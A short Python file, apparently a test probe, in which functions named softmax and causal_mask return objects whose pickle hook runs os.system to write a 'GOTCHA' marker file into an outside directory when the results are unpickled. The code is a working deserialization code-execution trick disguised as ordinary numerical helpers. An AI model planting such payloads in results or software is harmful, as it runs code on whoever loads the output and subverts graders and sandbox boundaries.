# Results that run code where they are unpickled.
# credit: none
import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, (f"echo GOTCHA > {OUTSIDE}/pickled",))


def softmax(x):
    return Payload()


def causal_mask(T):
    return np.array([Payload()], dtype=object)
